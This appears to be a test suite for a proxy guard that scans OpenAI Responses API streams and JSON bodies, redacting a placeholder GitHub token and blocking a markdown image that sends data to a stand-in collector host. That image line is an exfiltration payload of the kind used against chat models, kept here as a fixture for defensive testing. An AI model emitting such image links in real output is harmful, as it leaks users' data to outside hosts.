import fc from 'fast-check';
import OpenAI from 'openai';
import { Stream } from 'openai/streaming';
import type { ResponseStreamEvent } from 'openai/resources/responses/responses';
import { describe, expect, it } from 'vitest';
import { scanText } from '../../../src/core/guard/scan-text.ts';
import { getCorePack } from '../../../src/core/rules/builtin-packs.ts';
import {
  openAiResponsesJson,
  openAiResponsesStream,
} from '../../../src/core/wire/adapters/openai-responses.ts';
import { replayBody } from '../../../src/core/wire/replay-body.ts';
import {
  blockingPack,
  fixture,
  splitBytes,
  sseResponse,
  throughTransform,
  wholeReplay,
} from '../../support/wire-harness.ts';
import { cutFractions } from '../../support/text-arbitraries.ts';

const pack = getCorePack();
const secret = fixture('openai-responses/secret-split.sse');
const benign = fixture('openai-responses/benign.sse');
const jsonBody = fixture('openai-responses/response.json');
const blocking = blockingPack('github-pat');
const MSG = 'msg_EXAMPLE2';

async function readWithSdk(body: string) {
  const stream = Stream.fromSSEResponse<ResponseStreamEvent>(
    sseResponse(body),
    new AbortController(),
  );
  const events: ResponseStreamEvent[] = [];
  for await (const event of stream) events.push(event);
  const deltas = (itemId: string) =>
    events
      .map((e) => (e.type === 'response.output_text.delta' && e.item_id === itemId ? e.delta : ''))
      .join('');
  return { events, deltas };
}

/** The higher-level reader (`client.responses.stream`): it rebuilds the response from events. */
async function readWithResponseStream(body: string) {
  const client = new OpenAI({
    apiKey: 'sk-test',
    baseURL: 'http://localhost/v1',
    fetch: async () => sseResponse(body),
  });
  const stream = client.responses.stream({ model: 'gpt-4.1-mini', input: 'hi' });
  const types: string[] = [];
  for await (const event of stream) types.push(event.type);
  const final = await stream.finalResponse();
  const text = final.output
    .flatMap((item) => (item.type === 'message' ? item.content : []))
    .map((c) => (c.type === 'output_text' ? c.text : ''))
    .join('');
  return { types, text };
}

/** The event with only its text fields (and the offsets/logprobs tied to them) blanked. */
function skeleton(event: unknown): string {
  return JSON.stringify(event, (key, value: unknown) => {
    if (['delta', 'text', 'refusal'].includes(key) && typeof value === 'string') return '';
    if (key === 'logprobs') return [];
    if (key === 'start_index' || key === 'end_index') return 0;
    return value;
  });
}

describe('openai-responses stream adapter', () => {
  it('passes a stream without matches through byte for byte (CRLF, keep-alive comment)', () => {
    const replay = wholeReplay(openAiResponsesStream, pack, benign);
    expect(replay.output).toBe(benign);
    expect(replay.issues).toEqual([]);
  });

  it('guards the deltas; the SDK reads it; other events and fields are unchanged', async () => {
    const replay = wholeReplay(openAiResponsesStream, pack, secret);
    expect(replay.issues).toEqual([]);
    const original = await readWithSdk(secret);
    const guarded = await readWithSdk(replay.output);
    expect(guarded.deltas(MSG)).toBe(scanText(pack, original.deltas(MSG)).output);
    expect(guarded.deltas(MSG)).toContain('[redacted:github-pat]');
    expect(guarded.deltas(MSG)).toContain('[image blocked: collector.example.net]');
    expect(replay.output).not.toMatch(/EXAMPLEexam|collector\.example\.net\/p/);
    expect(guarded.events.map(skeleton)).toEqual(original.events.map(skeleton));
    // Events without guarded text are the very same (function call, created, …).
    const textless = (e: ResponseStreamEvent) =>
      e.type.startsWith('response.function_call') || e.type === 'response.created';
    expect(guarded.events.filter(textless)).toEqual(original.events.filter(textless));
    expect(replay.events.map((e) => [e.channel, (e.event as { rule: string }).rule])).toEqual([
      [`content:${MSG}:0`, 'github-pat'],
      [`content:${MSG}:0`, 'markdown-image-exfil'],
    ]);
  });

  it('every full-text echo carries the guarded text of the deltas', async () => {
    const { events, deltas } = await readWithSdk(
      wholeReplay(openAiResponsesStream, pack, secret).output,
    );
    const guarded = deltas(MSG);
    const echoes: string[] = [];
    for (const e of events) {
      if (e.type === 'response.output_text.done') echoes.push(e.text);
      if (e.type === 'response.content_part.done' && e.part.type === 'output_text')
        echoes.push(e.part.text);
      if (e.type === 'response.output_item.done' && e.item.type === 'message')
        for (const c of e.item.content) if (c.type === 'output_text') echoes.push(c.text);
      if (e.type === 'response.completed')
        for (const item of e.response.output)
          if (item.type === 'message')
            for (const c of item.content) if (c.type === 'output_text') echoes.push(c.text);
    }
    expect(echoes).toEqual([guarded, guarded, guarded, guarded]);
    // The higher-level reader rebuilds the same text from the events and the final response.
    const rebuilt = await readWithResponseStream(
      wholeReplay(openAiResponsesStream, pack, secret).output,
    );
    expect(rebuilt.text).toBe(guarded);
  });

  it('annotations past the first change collapse to an empty range, the same everywhere', async () => {
    const { events, deltas } = await readWithSdk(
      wholeReplay(openAiResponsesStream, pack, secret).output,
    );
    const firstChange = 'Here is the token you pasted: '.length;
    const kept = { start_index: 12, end_index: 17, url: 'https://docs.example.org/tokens' };
    const moved = { start_index: firstChange, end_index: firstChange };
    const added = events.flatMap((e) =>
      e.type === 'response.output_text.annotation.added' ? [e.annotation] : [],
    );
    expect(added).toMatchObject([kept, moved]);
    const done = events.find((e) => e.type === 'response.content_part.done' && e.item_id === MSG);
    expect(
      done?.type === 'response.content_part.done' && done.part.type === 'output_text'
        ? done.part.annotations
        : null,
    ).toMatchObject([kept, moved]);
    // The kept annotation still marks the same characters.
    expect([...deltas(MSG)].slice(12, 17).join('')).toBe('token');
  });

  it('logprobs that would spell a redacted token are emptied', async () => {
    const original = await readWithSdk(secret);
    const guarded = await readWithSdk(wholeReplay(openAiResponsesStream, pack, secret).output);
    const logprobs = (r: typeof original) =>
      r.events.flatMap((e) => (e.type === 'response.output_text.delta' ? [e.logprobs.length] : []));
    expect(logprobs(original)).toContain(1);
    expect(logprobs(guarded).every((n) => n === 0)).toBe(true);
  });

  it('for any split of the wire bytes, the page receives the single-chunk result', async () => {
    const bytes = new TextEncoder().encode(secret);
    const expected = wholeReplay(openAiResponsesStream, pack, secret).output;
    await fc.assert(
      fc.asyncProperty(cutFractions(24), async (cuts) => {
        const out = await throughTransform(openAiResponsesStream, pack, splitBytes(bytes, cuts));
        expect(new TextDecoder().decode(out)).toBe(expected);
      }),
      { numRuns: 200 },
    );
  });

  it('a blocked stream is the same for any split of the wire bytes', async () => {
    const bytes = new TextEncoder().encode(secret);
    const expected = replayBody(openAiResponsesStream, blocking, [secret]).output;
    await fc.assert(
      fc.asyncProperty(cutFractions(24), async (cuts) => {
        const out = await throughTransform(
          openAiResponsesStream,
          blocking,
          splitBytes(bytes, cuts),
        );
        expect(new TextDecoder().decode(out)).toBe(expected);
      }),
      { numRuns: 100 },
    );
  });

  it('a block closes the open part and item and ends with response.incomplete (content_filter)', async () => {
    const replay = replayBody(openAiResponsesStream, blocking, [secret]);
    expect(replay.blocked).toBe(true);
    const { events, deltas } = await readWithSdk(replay.output);
    expect(deltas(MSG)).toBe('Here is the token you pasted: ');
    expect(events.map((e) => e.sequence_number)).toEqual(events.map((_, i) => i));
    expect(events.map((e) => e.type).slice(-4)).toEqual([
      'response.output_text.done',
      'response.content_part.done',
      'response.output_item.done',
      'response.incomplete',
    ]);
    const last = events.at(-1);
    expect(last?.type === 'response.incomplete' && last.response.incomplete_details).toEqual({
      reason: 'content_filter',
    });
    const read = await readWithResponseStream(replay.output);
    expect(read.types.at(-1)).toBe('response.incomplete');
    expect(read.text).toBe('Here is the token you pasted: ');
  });
});

describe('openai-responses JSON adapter (stream: false)', () => {
  it('guards output text in place, every other byte untouched', () => {
    const token = 'ghp_EXAMPLEexampleEXAMPLEexample01234567';
    const out = wholeReplay(openAiResponsesJson, pack, jsonBody).output;
    expect(out).toBe(
      jsonBody
        .replace(token, '[redacted:github-pat]')
        .replace(
          '![x](https://collector.example.net/p?d=abc)',
          '[image blocked: collector.example.net]',
        ),
    );
  });

  it('annotations after a redaction collapse; the body stays pretty-printed JSON', () => {
    const moved = jsonBody
      .replace('"start_index": 12', '"start_index": 80')
      .replace('"end_index": 17', '"end_index": 90');
    const out = wholeReplay(openAiResponsesJson, pack, moved).output;
    const part = JSON.parse(out).output[0].content[0];
    expect(part.annotations[0]).toMatchObject({ start_index: 30, end_index: 30 });
    expect(part.text).toBe(scanText(pack, JSON.parse(moved).output[0].content[0].text).output);
    expect(out).toMatch(/^\{\n {2}"id": "resp_EXAMPLE4567",\n/);
  });

  it('a block before any text leaves an incomplete response with empty text', () => {
    const early = jsonBody.replace('Here is the token you pasted: ', '');
    const replay = replayBody(openAiResponsesJson, blocking, [early]);
    expect(replay.blocked).toBe(true);
    const body = JSON.parse(replay.output);
    expect(body).toMatchObject({
      status: 'incomplete',
      incomplete_details: { reason: 'content_filter' },
    });
    expect(body.output[0].content[0].text).toBe('');
  });
});

describe('openai-responses detection', () => {
  it('streams by head or URL; JSON bodies by "object":"response"', () => {
    const head = benign.slice(0, 1024);
    const sse = {
      url: 'https://api.openai.com/v1/responses',
      contentType: 'text/event-stream',
      head,
    };
    expect(openAiResponsesStream.detect(sse)).toBe(true);
    expect(openAiResponsesStream.detect({ ...sse, url: 'https://proxy.example/x' })).toBe(true);
    expect(
      openAiResponsesStream.detect({
        ...sse,
        head: 'data: {"id":"chatcmpl-1"',
        url: 'https://proxy.example/x',
      }),
    ).toBe(false);
    const json = {
      url: 'https://api.openai.com/v1/responses',
      contentType: 'application/json',
      head: jsonBody.slice(0, 1024),
    };
    expect(openAiResponsesJson.detect(json)).toBe(true);
    expect(openAiResponsesStream.detect(json)).toBe(false);
  });
});
